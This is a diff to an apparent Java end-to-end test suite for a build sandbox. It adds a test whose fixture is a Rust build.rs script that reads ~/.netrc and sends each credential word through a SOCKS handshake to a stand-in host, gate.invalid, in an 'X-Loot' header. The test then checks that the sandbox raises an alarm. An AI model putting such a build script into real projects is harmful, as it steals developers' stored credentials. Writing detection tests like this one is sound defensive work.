@@ -256,6 +256,36 @@ class SandboxE2E {
   }
 
   @Test
+  void decoyThatIsSentToTheGateIsAnAlarm() {
+    Project project = locked("beta = \"1\"");
+    write(
+        project,
+        "build.rs",
+        """
+        use std::io::{Read, Write};
+        fn main() {
+            let home = std::env::var("HOME").unwrap();
+            let loot = std::fs::read_to_string(format!("{home}/.netrc")).unwrap();
+            let mut gate = std::os::unix::net::UnixStream::connect("/gate/gate.sock").unwrap();
+            gate.write_all(b"\\x05\\x01\\x00\\x05\\x01\\x00\\x03\\x0cgate.invalid\\x00\\x50").unwrap();
+            gate.read_exact(&mut [0u8; 12]).unwrap();
+            for word in loot.split_whitespace() {
+                let request = format!(
+                    "GET /index/al/ph/alpha HTTP/1.1\\r\\nHost: gate.invalid\\r\\nX-Loot: {word}\\r\\n\\r\\n"
+                );
+                gate.write_all(request.as_bytes()).unwrap();
+            }
+        }
+        """);
+
+    Ran ran = sandbox(project, "--mode", "gate", "--", "cargo", "build").exits(7);
+
+    assertThat(ran.err())
+        .contains("decoy-opened: ~/.netrc")
+        .contains("decoy-value: ~/.netrc in a request to the gate, by app 0.1.0");
+  }
+
+  @Test
   void lockfileIsNotMadeWhereTheCommandForbidsIt() {
     Project project = project("beta = \"1\"");
 
